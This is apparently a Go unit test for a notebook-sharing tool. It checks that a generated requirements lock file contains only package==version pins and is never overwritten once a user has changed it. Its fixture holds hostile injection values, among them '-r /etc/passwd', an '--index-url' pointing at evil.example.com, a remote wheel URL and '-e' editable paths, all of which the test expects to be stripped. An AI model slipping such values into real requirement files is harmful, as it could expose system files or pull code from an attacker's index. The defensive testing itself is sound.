package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"kedge/share"
)

func TestTheLockFileNamesPackagesOnly(t *testing.T) {
	m := &share.Manifest{Notebook: "sub/nb.ipynb", Packages: map[string]string{"own": "own-package", "evil": "-r /etc/passwd"}, Environment: map[string]string{
		"python": "3.11.2 (main) [GCC 12] Linux", "numpy": "2.4.0", "sklearn": "1.7.0+local", "own": "1", "geo": "3", "evil": "1", "two": "1 2",
		"-e .": "1", "a\n--index-url=http://evil.example.com": "1", "late": "1\n-e /", "at": "@ https://evil.example.com/x.whl", "marker": "1; x"}}
	text := lockFile(m, map[string]string{"geo": "geo-here", "own": "own-here"}, "/x/nb.requirements.txt")
	lines := strings.Split(strings.TrimSpace(text), "\n")
	if !strings.Contains(lines[1], "uv venv --python 3.11.2 env") || !strings.Contains(lines[1], "-r 'nb.requirements.txt'") {
		t.Error(text)
	}
	if got := strings.Join(lines[2:], " "); got != "geo-here==3 numpy==2.4.0 own-package==1 scikit-learn==1.7.0+local ipykernel" {
		t.Error(got)
	}

	notebook := filepath.Join(t.TempDir(), "nb.ipynb")
	at, err := writeLock(m, nil, notebook)
	if err != nil || filepath.Base(at) != "nb.requirements.txt" {
		t.Fatal(at, err)
	}
	if again, err := writeLock(m, nil, notebook); err != nil || again != at {
		t.Error(again, err)
	}
	if err := os.WriteFile(at, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	if other, err := writeLock(m, nil, notebook); err != nil || other != "" {
		t.Error(other, err)
	}
	if data, err := os.ReadFile(at); err != nil || string(data) != "mine" {
		t.Error("what was there was changed")
	}
	if at, err := writeLock(&share.Manifest{}, nil, notebook); at != "" || err != nil {
		t.Error(at, err)
	}
}
